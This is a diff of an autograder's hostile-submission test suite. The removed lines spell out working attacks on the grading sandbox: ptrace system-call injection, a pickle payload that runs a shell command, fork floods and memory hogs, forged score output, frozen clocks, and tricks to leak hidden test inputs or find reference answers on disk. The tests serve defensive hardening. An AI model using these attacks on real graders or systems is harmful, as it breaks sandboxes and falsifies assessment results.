@@ -1,16 +1,20 @@
 """Hostile submissions: the isolated grader survives them, scores them exactly, and leaves nothing behind.
 
-Every submission is built from the source notebook (or the release stubs) and graded in each
-place a class grades, then checked case by case against the table CASES:
+Every submission is built from the source notebook (or the release stubs), its attack's cells
+appended or put in place of solutions, and graded in each place a class grades, then checked case
+by case against the table CASES, a Case of keywords per submission. An attack's cell is a file of
+plain code in tests/attacks/ (<name>.py, the run's values as $PLACEHOLDERS that attack() fills; see
+tests/attacks/README.md); a few cells short enough to read in their row are written there. The
+places a class grades:
 - "root": one batch run of `python -m autograder grade` as root with bubblewrap;
 - "user": the same batch run by a throwaway normal user (an instructor on a shared server),
   whose sandbox is bubblewrap in a user namespace;
 - "container": each submission through the Gradescope bundle's run_autograder, as root in a
   stand-in container without bubblewrap, where the learner runs as a uid of its own (two
   stand-ins share the corpus, as --jobs 2 does elsewhere).
-Cheats at assignment 2's large timing cases (MNIST_CASES, from mnist_cheats.py) are a corpus of
-their own, graded the same way once the rest is done: their timed cases are then not judged on a
-machine that the rest of the batch keeps busy.
+Cheats at assignment 2's large timing cases (MNIST_CASES, from mnist_cheats.py, their files in
+tests/attacks/mnist/) are a corpus of their own, graded the same way once the rest is done: their
+timed cases are then not judged on a machine that the rest of the batch keeps busy.
 The few submissions that idle for a long time or may hang the grader are graded apart, each in a
 grader run of its own beside the batch that is killed after a time limit: a grader that hangs then
 costs that submission its results, not the whole mode. Where a case's effect shows outside the
@@ -35,11 +39,12 @@ from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass, field
 from pathlib import Path
 
-import mnist_cheats
 import nbformat
 import numpy as np
 import pytest
 
+import attack_files
+import mnist_cheats
 from autograder.assignments import exercises
 from autograder.check import in_process_call
 from autograder.course import Course, release_dir, source_notebook
@@ -79,6 +84,21 @@ OPTIONS = ["--cell-timeout", "2", "--call-timeout", "2", "--memory", "1"]
 # Assignment 2's large cases are timed against 3 s by the grader's own clock: a call limit of 2 s
 # would end them first on a busy machine.
 MNIST_OPTIONS = ["--cell-timeout", "10", "--call-timeout", "10", "--memory", "1"]
+SHARED_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")  # writable by every user on Debian
+# What the placeholders in the attacks' files (tests/attacks/, see its README.md) stand for in this run.
+RUN_VALUES = {
+    "NONCE": NONCE,
+    "PWNED": PWNED,
+    "LEAK": LEAK,
+    "HOST_MARKER": HOST_MARKER,
+    "COURSE": COURSE,
+    "HACK": HACK,
+    "DAEMON_NAME": DAEMON_NAME,
+    "LISTENER_PORT": LISTENER.getsockname()[1],
+    "REFERENCE_H5": REFERENCE_H5,
+    "SOURCE": SOURCE,
+    "SHARED_FOLDERS": repr(SHARED_FOLDERS),
+}
 
 
 def solution_cell(notebook, name: str):
@@ -130,952 +150,51 @@ def release_stubs() -> dict:
     return {name: solution_cell(notebook, name).source for name in POINTS}
 
 
-LOOP = "while True:\n    pass\n"
-STUBBORN_LOOP = (
-    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass\n"
-)
-ORPHANS = f"""import os, subprocess, time
-sleeper = subprocess.Popen(["sleep", "300.{NONCE}"])
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        try:  # a disguise, where the learner sees a /proc (without namespaces of its own)
-            with open("/proc/self/comm", "w") as comm:
-                comm.write("{DAEMON_NAME}")
-        except FileNotFoundError:
-            pass
-        with open("/tmp/daemon.pid", "w") as pidfile:
-            pidfile.write(str(os.getpid()))
-        while True:
-            time.sleep(1)
-    os._exit(0)
-os.wait()
-for _ in range(100):
-    if os.path.exists("/tmp/daemon.pid") and os.path.getsize("/tmp/daemon.pid"):
-        break
-    time.sleep(0.01)
-os.kill(int(open("/tmp/daemon.pid").read()), 0)
-assert sleeper.poll() is None
-"""
-SIGNALS = """import os, signal
-for pid, sig in ((os.getppid(), signal.SIGKILL), (1, signal.SIGTERM), (-1, signal.SIGKILL)):
-    try:
-        os.kill(pid, sig)
-    except OSError as error:
-        print(error)
-"""
-PATCH_NUMPY = """import numpy as np
-np.allclose = lambda *a, **k: True
-np.testing.assert_allclose = lambda *a, **k: None
-np.array_equal = lambda *a, **k: True
-np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
-""" + "".join(f"def {name}(*args, **kwargs):\n    return np.zeros(1)\n" for name in POINTS)
-EVIL = f"""import os
-class Evil:
-    def __reduce__(self):
-        return (os.system, ("touch {PWNED}",))
-def conv_single_step(a_slice_prev, W, b):
-    return Evil()
-"""
-FAKE = '{"score": 100, "output": "FAKE_RESULTS all tests passed", "tests": []}'
-FAKE_OUTPUT = f"""import os, sys
-print({FAKE!r})
-os.write(1, {FAKE!r}.encode())
-os.write(2, {FAKE!r}.encode())
-sys.__stdout__.write({FAKE!r})
-"""
-FORGED_REPLY = """import os, struct
-for fd in range(3, 10):
-    try:
-        os.write(fd, struct.pack(">I", 7) + b"garbage")
-    except OSError:
-        pass
-"""
-DISK_SEARCH = f"""import json, os, time
-KNOWN = [{str(REFERENCE_H5)!r}, {str(SOURCE)!r}]
-def _search(seconds=1.0):
-    found, start = [path for path in KNOWN if os.path.exists(path)], time.monotonic()
-    for top, dirs, files in os.walk("/"):
-        dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__")
-                   and os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
-        found += [os.path.join(top, f) for f in files if f == "conv_step_by_step.h5"
-                  or (f == "conv_step_by_step.ipynb" and "/source/" in top + "/")]
-        if time.monotonic() - start > seconds:
-            return sorted(set(found)), False
-    return sorted(set(found)), True
-FOUND, COMPLETE = _search()
-def _nothing():
-    return LookupError(f"found {{FOUND}}, complete={{COMPLETE}}")
-def _solutions():
-    for path in FOUND:
-        if path.endswith(".ipynb"):
-            namespace = {{}}
-            for cell in json.load(open(path))["cells"]:
-                meta = cell["metadata"].get("nbgrader", {{}})
-                if cell["cell_type"] == "code" and (meta.get("solution") or meta.get("grade_id") == "setup"):
-                    exec("".join(cell["source"]), namespace)
-            return namespace
-    raise _nothing()
-def _from_h5(name, first):
-    import h5py, numpy as np
-    for path in FOUND:
-        if path.endswith(".h5"):
-            with h5py.File(path, "r") as h5:
-                for case in h5[name].values():
-                    if any(np.shape(data) == np.shape(first) and np.array_equal(data[()], first)
-                           for data in case["inputs"].values()):
-                        return case["outputs"]["0"][()]
-    raise _nothing()
-def zero_pad(X, pad):
-    return _from_h5("zero_pad", X)
-def conv_single_step(a_slice_prev, W, b):
-    return _from_h5("conv_single_step", a_slice_prev)
-def create_mask_from_window(x):
-    return _from_h5("create_mask_from_window", x)
-""" + "".join(
-    f"def {name}(*args, **kwargs):\n    return _solutions()[{name!r}](*args, **kwargs)\n"
-    for name in ("conv_forward", "pool_forward", "conv_backward", "distribute_value", "pool_backward")
-)
-TMP_WRITER = (
-    wrap("zero_pad", f"    open({str(LEAK)!r}, 'w').write('secret')")
-    + wrap("distribute_value", f"    assert open({str(LEAK)!r}).read() == 'secret'")
-    + wrap("conv_single_step", f"    open({str(HACK)!r}, 'w').write('hacked')")
-)
-TMP_READER = wrap(
-    "zero_pad",
-    f"""    import os
-    for path in ({str(LEAK)!r}, {str(HOST_MARKER)!r}):
-        if os.path.exists(path):
-            break
-    else:
-        raise FileNotFoundError("nothing shared in /tmp: " + repr(sorted(os.listdir("/tmp"))))""",
-)
-THREADS = """import threading
-threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
-""" + wrap(
-    "create_mask_from_window",
-    """    if not globals().get("_spinner"):
-        globals()["_spinner"] = threading.Thread(target=lambda: [None for _ in iter(int, 1)])
-        globals()["_spinner"].start()""",
-)
-IGNORE_ALARM = """import signal
-def pool_forward(A_prev, hparameters, mode="max"):
-    signal.signal(signal.SIGALRM, signal.SIG_IGN)
-    while True:
-        pass
-"""
-FORK_FLOOD = """import os, time
-started = 0
-for _ in range(200):
-    try:
-        pid = os.fork()
-    except OSError:
-        break
-    if pid == 0:
-        time.sleep(30)
-        os._exit(0)
-    started += 1
-""" + wrap(
-    "distribute_value",
-    """    if started >= 200:
-        raise RuntimeError(f"started {started} processes")""",
-)
-
-# ---- forged messages on the runner's own reply pipe ------------------------------------------
-RUNNER_PIPES = """import fcntl, os, stat, struct
-def _runner_pipe(access):
-    \"\"\"The runner's request pipe (os.O_RDONLY) or reply pipe (os.O_WRONLY): a FIFO of fd 3 or more.\"\"\"
-    for fd in range(3, 64):
-        try:
-            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == access:
-                return fd
-        except OSError:
-            pass
-    raise LookupError("the runner's pipe was not found")
-def _send_frame(data, length=None):
-    \"\"\"A message as the runner frames it: 4-byte big-endian length, then the bytes.\"\"\"
-    os.write(_runner_pipe(os.O_WRONLY), struct.pack(">I", len(data) if length is None else length) + data)
-"""
-NESTED_REPLY = RUNNER_PIPES + '_send_frame(b"[" * 200_000 + b"]" * 200_000)\n'
-# Fewer brackets than the grader's item cap, so that only the JSON parser's depth limit can stop it.
-NESTED_UNDER_ITEM_CAP = RUNNER_PIPES + """_send_frame(b'{"a": ' * 99_000 + b"1" + b"}" * 99_000)\n"""
-OVERSIZED_REPLY = RUNNER_PIPES + '_send_frame(b"x" * (8 << 20), length=180_000_000)\n'
-MILLION_ITEMS_REPLY = RUNNER_PIPES + '_send_frame(b"[" + b"0," * 999_999 + b"0]")\n'
-NESTED_RESULT = """def zero_pad(X, pad):
-    nested = []
-    for _ in range(100_000):
-        nested = [nested]
-    return nested
-"""
-MILLION_ITEMS_RESULT = "def distribute_value(dz, shape):\n    return [0] * 1_000_000\n"
-
-# ---- processes, memory and files ------------------------------------------------------------
-# Forks until the kernel says EAGAIN; every child leaves the session and lives on as a sleep.
-PROCESS_LIMIT = f"""import os
-children, refusal = 0, "no refusal"
-while children < 500:
-    try:
-        pid = os.fork()
-    except OSError as error:
-        refusal = str(error)
-        break
-    if pid == 0:
-        try:
-            os.setsid()
-            os.execv("/bin/sleep", ["sleep", "301.{NONCE}"])
-        finally:
-            os._exit(1)
-    children += 1
-raise RuntimeError(f"FORKED {{children}} children, then {{refusal}}")
-"""
-# Eight processes of 400 MiB each: every one under the 1 GiB per-process cap, 3.2 GiB together.
-FORKS_TIMES_MEMORY = """import os, time
-ready, done = os.pipe()
-for _ in range(8):
-    if os.fork() == 0:
-        try:
-            block = b"\\1" * (400 << 20)
-            os.write(done, b"+")
-            time.sleep(60)
-        except BaseException as error:
-            os.write(done, type(error).__name__.encode() + b" ")
-        finally:
-            os._exit(0)
-time.sleep(1.5)
-os.set_blocking(ready, False)
-raise RuntimeError(f"FORKS of 400 MiB each: {os.read(ready, 1000).decode()}")
-"""
-# As many idle children as the process limit allows, 8 MiB each: about 0.5 GiB in all, but each
-# also maps the runner's pages it shares copy-on-write with the others.
-IDLE_FORKS = """import os, time
-children = 0
-while children < 100:
-    try:
-        pid = os.fork()
-    except OSError:
-        break
-    if pid == 0:
-        try:
-            block = b"\\1" * (8 << 20)
-            time.sleep(60)
-        finally:
-            os._exit(0)
-    children += 1
-time.sleep(0.6)
-raise RuntimeError(f"IDLE FORKS: {children} children of 8 MiB each")
-"""
+def attack(name: str, **values) -> str:
+    """The cell in tests/attacks/<name>.py, its placeholders filled with this run's values (and `values`)."""
+    return attack_files.attack(name, **RUN_VALUES, **values)
 
 
-def fill(folder: str) -> str:
-    """A cell allocating 1.5 GiB in 64 MiB files under `folder` (a Python expression), then waiting
-    long enough for the grader to look; it reports whether it stayed within the 1 GiB limit."""
-    return f"""import os, time
-written, refusal = 0, "no refusal"
-try:
-    while written < 1536 << 20:
-        fd = os.open(os.path.join({folder}, f"fill{{written >> 26}}"), os.O_CREAT | os.O_WRONLY, 0o600)
-        try:
-            os.posix_fallocate(fd, 0, 64 << 20)
-        finally:
-            os.close(fd)
-        written += 64 << 20
-except OSError as error:
-    refusal = error.strerror
-time.sleep(0.6)
-raise RuntimeError(f"FILL {{'stopped within' if written <= 1 << 30 else 'went beyond'}} the limit: "
-                   f"{{written >> 20}} MiB, then {{refusal}}")
-"""
+# ---- pieces that several attacks begin with, and attacks some tests below run on the host ----
+# _runner_pipe(access) and _send_frame(data, length=None): the runner's own pipes and framing.
+RUNNER_PIPES = attack("runner_pipes")
+# libc.syscall and _outcome(result), for the keyring system calls (x86_64 numbers: add_key 248,
+# request_key 249, keyctl 250).
+KEYRING_LIBC = attack("keyring_libc")
+# _injected(pid, number, *args): through ptrace, a system call run by another process of the learner's
+# uid, outside the learner's system call filter (pid 1 of its sandbox: its PID namespace's init); byte
+# strings are written on its stack.
+PTRACE_INJECT = attack("ptrace_inject")
+# _secret(array): the first values of an input as digit strings, what the EXFIL attacks try to get
+# into the feedback; _public(A_prev): whether an input is a public case of conv_forward, pool_forward.
+SECRET = attack("secret")
+# _writable_folder(): /dev/shm where it can be written, else HOME.
+WRITABLE_FOLDER = attack("writable_folder")
+# Looks for the course's reference file and source notebook on the whole disk, then answers every
+# exercise from them.
+DISK_SEARCH = attack("disk_search")
+# Every route to the course package and its reference data: import it, ask importlib, read the
+# editable install's map, look through other processes' folders and environments (course_import);
+# then answers every exercise from a reference file found, matched on the arguments (answer_from_h5).
+COURSE_IMPORT = attack("course_import") + attack("answer_from_h5")
+# zero_pad and conv_single_step wrong on purpose, so that conv_forward is retried with the reference
+# helpers; conv_forward then looks for the recorded helper answers and reshapes them into Z.
+HARVEST = attack("harvest_helper_answers")
 
-
-# Memory the grader's count of private pages does not see: anonymous files (memfd), not mapped.
-MEMFD_MEMORY = """import os, time
-held, refusal = 0, "no refusal"
-try:
-    for number in range(5):
-        fd = os.memfd_create(f"hog{number}")
-        os.posix_fallocate(fd, 0, 256 << 20)
-        held += 256 << 20
-except OSError as error:
-    refusal = error.strerror
-time.sleep(0.6)
-raise RuntimeError(f"HOG {'refused within' if held <= 1 << 30 else 'held beyond'} the limit: "
-                   f"{held >> 20} MiB, then {refusal}")
-"""
-# The same with System V shared memory: one 256 MiB segment per cell, touched once and detached,
-# kept by the kernel (without an IPC namespace even after the process ends); the last cell waits.
-SYSV_SHM_SEGMENT = """import ctypes
-libc = ctypes.CDLL(None, use_errno=True)
-libc.shmat.restype, libc.shmat.argtypes = ctypes.c_void_p, [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
-libc.shmdt.argtypes = [ctypes.c_void_p]
-libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
-segment = libc.shmget(0, 256 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
-address = libc.shmat(segment, None, 0) if segment >= 0 else None
-if address in (None, 2**64 - 1):
-    raise OSError(ctypes.get_errno(), "no segment")
-if libc.madvise(address, 256 << 20, 23) != 0:  # MADV_POPULATE_WRITE; else touch every byte
-    ctypes.memset(address, 1, 256 << 20)
-libc.shmdt(address)
-"""
-SYSV_SHM_HELD = """import ctypes, os, time
-time.sleep(0.6)
-try:
-    rows = [line.split() for line in open("/proc/sysvipc/shm").read().splitlines()[1:]]
-    held = sum(int(row[3]) for row in rows if int(row[9]) == os.getuid())  # size, creator's uid
-except OSError:  # no /proc (a learner with namespaces of its own): ask shmctl(0, SHM_INFO) instead
-    info = (ctypes.c_ulong * 6)()
-    ctypes.CDLL(None).shmctl(0, 14, info)
-    held = info[1] * os.sysconf("SC_PAGE_SIZE")  # shm_tot: pages of all segments in its IPC namespace
-raise RuntimeError(f"HOG {'refused within' if held <= 1 << 30 else 'held beyond'} the limit: {held >> 20} MiB")
-"""
-# A file in every folder a learner can usually write, to be found by a later run.
-SHARED_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")  # writable by every user on Debian
-FILES_LEFT = f"""import os
-left = []
-for folder in {SHARED_FOLDERS!r} + (os.environ.get("HOME", "/tmp"),):
-    try:
-        with open(os.path.join(folder, "left_{NONCE}"), "w") as stream:
-            stream.write("for the next run")
-        left.append(folder)
-    except OSError:
-        pass
-raise RuntimeError(f"LEFT a file in {{left}}")
-"""
-
-# ---- the no-double-penalty retry: the grader's recorded helper answers -------------------------
-HARVEST = """import gc, sys, types
-import numpy as np
-def zero_pad(X, pad):  # wrong on purpose: conv_forward then gets the reference helpers on a retry
-    return X + 1
-def conv_single_step(a_slice_prev, W, b):  # wrong on purpose, likewise
-    return 0.0
-def _answer_tables():
-    \"\"\"Dicts of recorded helper answers (keyed by 40-hex fingerprints, or 32-hex ids when sealed)
-    reachable from the stand-in helpers' closures, the runner's module, or anything the garbage
-    collector knows; closures first.\"\"\"
-    def is_table(value):
-        keys = list(value)[:3] if isinstance(value, dict) else []
-        return bool(keys) and all(isinstance(key, str) and len(key) in (32, 40) for key in keys)
-    tables, seen, queue = [], set(), [globals()[name] for name in ("zero_pad", "conv_single_step")]
-    queue.append(vars(sys.modules["__main__"]))
-    while queue and len(seen) < 100_000:
-        value = queue.pop(0)
-        if id(value) in seen or isinstance(value, (type, types.ModuleType)):
-            continue
-        seen.add(id(value))
-        if is_table(value):
-            tables.append(value)
-        elif isinstance(value, dict):
-            queue += list(value.values())
-        elif isinstance(value, (list, tuple, set)):
-            queue += list(value)
-        elif isinstance(value, types.FunctionType):
-            queue += [cell.cell_contents for cell in value.__closure__ or ()]
-        elif isinstance(value, types.MethodType):
-            queue.append(value.__self__)
-        elif hasattr(value, "__dict__"):
-            queue.append(vars(value))
-    return tables + [value for value in gc.get_objects() if is_table(value)]
-def _plain(value):
-    \"\"\"An answer as recorded: a number, or an array in the runner's encoded form; a sealed one
-    (base64 text) is read as if it were only base64-coded JSON.\"\"\"
-    import base64, json
-    if isinstance(value, str):
-        try:
-            value = json.loads(base64.b64decode(value))
-        except Exception:
-            return None
-    if isinstance(value, dict) and "__array__" in value:
-        data = base64.b64decode(value["__array__"])
-        return np.frombuffer(data, dtype=value["dtype"]).reshape(value["shape"])
-    return value
-def conv_forward(A_prev, W, b, hparameters):
-    \"\"\"Computes nothing: reshapes conv_single_step's recorded answers into Z.\"\"\"
-    m, n_H_prev, n_W_prev, _ = A_prev.shape
-    f, n_C, stride, pad = W.shape[0], W.shape[3], hparameters["stride"], hparameters["pad"]
-    shape = (m, (n_H_prev - f + 2 * pad) // stride + 1, (n_W_prev - f + 2 * pad) // stride + 1, n_C)
-    tables = _answer_tables()
-    for table in tables:
-        values = [value for value in map(_plain, table.values()) if np.ndim(value) == 0 and value is not None]
-        if len(values) == np.prod(shape):
-            return np.array(values, dtype=float).reshape(shape), (A_prev, W, b, hparameters)
-    sizes = sorted({len(table) for table in tables}, reverse=True)
-    raise LookupError(f"HARVEST found no table of {np.prod(shape)} answers (tables of {sizes} entries)")
-"""
-
-# ---- time --------------------------------------------------------------------------------------
-# Learner clocks frozen and the runner's alarm switched off, then a call of 3 s against a limit of 2 s.
-FORGED_CLOCK = """import signal, time
-_sleep, _setitimer = time.sleep, signal.setitimer
-time.perf_counter = time.monotonic = time.time = lambda: 0.0
-signal.setitimer = lambda *args, **kwargs: (0.0, 0.0)
-signal.alarm = lambda seconds: 0
-_setitimer(signal.ITIMER_REAL, 0)  # the alarm the runner set for this cell
-""" + wrap("distribute_value", "    _sleep(3)")
-# Assignment 2 (a test of its own): a large case that takes 3.5 s while the learner's clocks say 0.01 s.
-SLOW_LARGE_CASE = "import time\n" + wrap(
-    "conv_forward_fast",
-    """    if args[0].shape[0] == 256:  # the large case
-        start = time.perf_counter()
-        time.sleep(3.5)
-        time.perf_counter = time.monotonic = time.time = lambda: start + 0.01""",
-)
-BUDGET = "import time\nimport numpy as np\n" + "".join(
-    f"def {name}(*args, **kwargs):\n    time.sleep(1.9)\n    return np.zeros(1)\n" for name in POINTS
-)
-
-# ---- huge texts --------------------------------------------------------------------------------
+# ---- huge texts, generated -------------------------------------------------------------------
 HUGE_LINE_CELL = f'_filler = "{"x" * 2_000_000}"; raise ValueError("LONG LINE " + _filler)\n'
 HUGE_LINE_FUNCTION = f'def create_mask_from_window(x):\n    return "{"y" * 2_000_000}"[len(x) + 10**7]\n'
-
-# ---- results of a form no check foresaw -------------------------------------------------------
-RAGGED = """_original_conv_forward, _original_pool_forward = conv_forward, pool_forward
-def conv_forward(A_prev, W, b, hparameters):
-    return [[1, 2], [3]], _original_conv_forward(A_prev, W, b, hparameters)[1]
-def pool_forward(A_prev, hparameters, mode="max"):
-    return _original_pool_forward(A_prev, hparameters, mode)[0], (A_prev, np.array([1, 2]))
-"""
-
-# ---- kernel keyrings (x86_64 system call numbers: add_key 248, request_key 249, keyctl 250) -----
-KEYRING_LIBC = """import ctypes, os
-libc = ctypes.CDLL(None, use_errno=True)
-libc.syscall.restype = ctypes.c_long
-def _outcome(result):
-    return f"key {result}" if result >= 0 else os.strerror(ctypes.get_errno())
-"""
-KEY_PLANT = (
-    KEYRING_LIBC
-    + f"""outcomes = []
-for keyring in (-3, -4):  # add_key to the session and the user keyring
-    outcomes.append(_outcome(libc.syscall(ctypes.c_long(248), b"user", b"hostile_{NONCE}", b"EXFIL",
-                                          ctypes.c_size_t(5), ctypes.c_long(keyring))))
-raise RuntimeError("ADD_KEY " + ", ".join(outcomes))
-"""
-)
-KEY_SEARCH = (
-    KEYRING_LIBC
-    + f"""def _planted_key():
-    outcomes = []
-    for keyring in (-3, -4):  # KEYCTL_SEARCH in the session and the user keyring
-        found = libc.syscall(ctypes.c_long(250), ctypes.c_long(10), ctypes.c_long(keyring), b"user",
-                             b"hostile_{NONCE}", ctypes.c_long(0))
-        if found >= 0:
-            return found
-        outcomes.append(_outcome(found))
-    found = libc.syscall(ctypes.c_long(249), b"user", b"hostile_{NONCE}", None, ctypes.c_long(0))
-    if found >= 0:
-        return found
-    raise LookupError("KEY not found: " + ", ".join(outcomes + [_outcome(found)]))
-"""
-    + wrap("zero_pad", "    _planted_key()")
-)
-
-# Through ptrace, a system call run by another process of the learner's uid, outside the learner's
-# system call filter (pid 1 of its sandbox: its PID namespace's init); byte strings are written on its stack.
-PTRACE_INJECT = """import ctypes, os, time
-libc = ctypes.CDLL(None, use_errno=True)
-libc.ptrace.restype = ctypes.c_long
-libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
-class _Registers(ctypes.Structure):  # x86_64 user_regs_struct
-    _fields_ = [(name, ctypes.c_ulonglong) for name in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi "
-                "rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
-def _injected(pid, number, *args):
-    \"\"\"The result of system call `number` made by process `pid`, or why it could not be made.\"\"\"
-    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
-        return "attach: " + os.strerror(ctypes.get_errno())
-    os.waitpid(pid, 0x40000000)  # __WALL
-    saved, registers = _Registers(), _Registers()
-    libc.ptrace(12, pid, None, ctypes.byref(saved))  # PTRACE_GETREGS
-    ctypes.memmove(ctypes.byref(registers), ctypes.byref(saved), ctypes.sizeof(saved))
-    if libc.ptrace(2, pid, ctypes.c_void_p(saved.rip - 2), None) & 0xFFFF != 0x050F:  # PEEKDATA: after a syscall?
-        libc.ptrace(17, pid, None, None)
-        return "no system call instruction"
-    address, values = saved.rsp - 4096, []
-    for arg in args:
-        if isinstance(arg, bytes):
-            data = arg + bytes(8 - len(arg) % 8)
-            for offset in range(0, len(data), 8):
-                word = int.from_bytes(data[offset:offset + 8], "little")
-                libc.ptrace(5, pid, ctypes.c_void_p(address + offset), ctypes.c_void_p(word))  # PTRACE_POKEDATA
-            values.append(address)
-            address += len(data)
-        else:
-            values.append(arg % 2**64)
-    registers.rip, registers.orig_rax, registers.rax = saved.rip - 2, 2**64 - 1, number
-    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), values):
-        setattr(registers, name, value)
-    libc.ptrace(13, pid, None, ctypes.byref(registers))  # PTRACE_SETREGS
-    libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP over the system call
-    os.waitpid(pid, 0x40000000)
-    libc.ptrace(12, pid, None, ctypes.byref(registers))
-    libc.ptrace(13, pid, None, ctypes.byref(saved))
-    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
-    result = registers.rax - 2**64 if registers.rax >= 2**63 else registers.rax
-    return result if result >= 0 else os.strerror(-result)
-"""
-PTRACE_KEY_PLANT = (
-    PTRACE_INJECT
-    + f"""key = _injected(1, 248, b"user", b"ptrace_{NONCE}", b"EXFIL", 5, -3)  # add_key
-if isinstance(key, int):
-    _injected(1, 250, 15, key, 120)  # KEYCTL_SET_TIMEOUT: gone from the kernel in 2 minutes
-raise RuntimeError(f"PTRACE_KEY planted: {{key}}")
-"""
-)
-# Finds the key through its own pid 1 (waiting up to 1 s, once, for the planting submission), else fails.
-PTRACE_KEY_SEARCH = (
-    PTRACE_INJECT
-    + f"""_searches = []
-def _planted_key():
-    while not _searches or (not isinstance(_searches[-1], int) and len(_searches) < 10):
-        if _searches:
-            time.sleep(0.1)
-        _searches.append(_injected(1, 250, 10, -3, b"user", b"ptrace_{NONCE}", 0))  # KEYCTL_SEARCH, session
-    if not isinstance(_searches[-1], int):
-        raise LookupError(f"KEY not found: {{_searches[-1]}}")
-"""
-    + wrap("zero_pad", "    _planted_key()")
-)
-
-# ---- hidden inputs smuggled into feedback ------------------------------------------------------
-SECRET = """import numpy as np
-def _secret(array):
-    \"\"\"The first values of an input as digit strings: what these submissions try to get into the feedback.\"\"\"
-    return "_".join(str(int(abs(value) * 10**9)) for value in np.ravel(array)[:3])
-def _public(A_prev):
-    return A_prev.shape in ((2, 5, 7, 4), (2, 5, 5, 3))  # the public cases of conv_forward, pool_forward
-"""
-EXFIL_MESSAGE = (
-    SECRET
-    + """def conv_forward(A_prev, W, b, hparameters):
-    raise ValueError("EX" + "FIL " + _secret(A_prev))
-"""
-)
-EXFIL_CLASS_NAME = (
-    SECRET
-    + """def conv_forward(A_prev, W, b, hparameters):
-    raise type("EX" + "FIL_" + _secret(A_prev), (Exception,), {})()
-"""
-)
-# Classes named like the grader's own error kinds, raised on the hidden cases only.
-EXFIL_RESERVED_NAMES = (
-    SECRET
-    + """TimeLimit = type("TimeLimit", (Exception,), {})
-Missing = type("Missing", (Exception,), {})
-_original_conv_forward, _original_pool_forward = conv_forward, pool_forward
-def conv_forward(A_prev, W, b, hparameters):
-    if not _public(A_prev):
-        raise TimeLimit("EX" + "FIL " + _secret(A_prev))
-    return _original_conv_forward(A_prev, W, b, hparameters)
-def pool_forward(A_prev, hparameters, mode="max"):
-    if not _public(A_prev):
-        raise Missing("EX" + "FIL " + _secret(A_prev))
-    return _original_pool_forward(A_prev, hparameters, mode)
-"""
-)
-# The error's "line" is read from linecache, which the learner's code can rewrite before raising.
-EXFIL_LINE = (
-    SECRET
-    + """import linecache
-def conv_forward(A_prev, W, b, hparameters):
-    filename = conv_forward.__code__.co_filename
-    linecache.cache[filename] = (1, None, ["EX" + "FIL " + _secret(A_prev) + "\\n"] * 100, filename)
-    raise ValueError("see the line")
-"""
-)
-# An empty array whose dimensions are the hidden values: "`Z` has shape (0, ...)".
-EXFIL_SHAPE = (
-    SECRET
-    + """def conv_forward(A_prev, W, b, hparameters):
-    first, second = (int(abs(value) * 10**9) for value in np.ravel(A_prev)[:2])
-    return np.zeros((0, first, second), dtype=bool), (A_prev, W, b, hparameters)
-"""
-)
-# The mistake hint for a NameError quotes the name from the message, hidden cases included.
-EXFIL_HINT_NAME = (
-    SECRET
-    + """def conv_forward(A_prev, W, b, hparameters):
-    if _public(A_prev):
-        raise ValueError("nothing to see")
-    raise NameError(f"name 'EXFIL_{_secret(A_prev)}' is not defined")
-"""
-)
-# The runner reports which notebook variables a function read; the learner rewrites that report.
-EXFIL_VARIABLE_NAMES = (
-    SECRET
-    + """import sys
-_seen = []
-sys.modules["__main__"].notebook_globals_used = lambda fn, namespace: ["EXFIL_" + _seen[-1]] if _seen else []
-def conv_forward(A_prev, W, b, hparameters):
-    if not _public(A_prev):
-        _seen.append(_secret(A_prev))
-    return np.zeros(1), None
-"""
-)
-# An object of a class named after the input: "the result is a EXFIL_..., not a number or an array".
-EXFIL_RESULT_TYPE = (
-    SECRET
-    + """def zero_pad(X, pad):
-    return type("EX" + "FIL_" + _secret(X), (), {})()
-"""
-)
-# zero_pad records its hidden inputs; conv_single_step's public case, judged later, shows them.
-EXFIL_LATER_PUBLIC = (
-    SECRET
-    + """_seen = []
-_original_zero_pad, _original_conv_single_step = zero_pad, conv_single_step
-def zero_pad(X, pad):
-    _seen.append(_secret(X))
-    return _original_zero_pad(X, pad)
-def conv_single_step(a_slice_prev, W, b):
-    if a_slice_prev.shape == (4, 4, 3):  # the public case
-        raise ValueError("EX" + "FIL " + " ".join(_seen[1:]))
-    return _original_conv_single_step(a_slice_prev, W, b)
-"""
-)
-
-# ---- the course's own files and other students' files -------------------------------------------
-# Answers every exercise from a reference file, matched on the arguments; FOUND is set by the cell.
-ANSWER_FROM_H5 = """import numpy as np
-def _flat(value, arrays, numbers):
-    if isinstance(value, np.ndarray):
-        arrays.append(value)
-    elif isinstance(value, dict):
-        for item in value.values():
-            _flat(item, arrays, numbers)
-    elif isinstance(value, tuple) and all(isinstance(item, int) for item in value):
-        arrays.append(np.array(value))
-    elif isinstance(value, (tuple, list)):
-        for item in value:
-            _flat(item, arrays, numbers)
-    else:
-        numbers.append(value)
-def _reference(name, args, kwargs):
-    import h5py
-    arrays, numbers = [], []
-    _flat((args, kwargs), arrays, numbers)
-    for path in FOUND:
-        try:
-            h5 = h5py.File(path, "r")
-        except OSError:
-            continue
-        with h5:
-            for case in h5[name].values() if name in h5 else ():
-                inputs = case["inputs"]
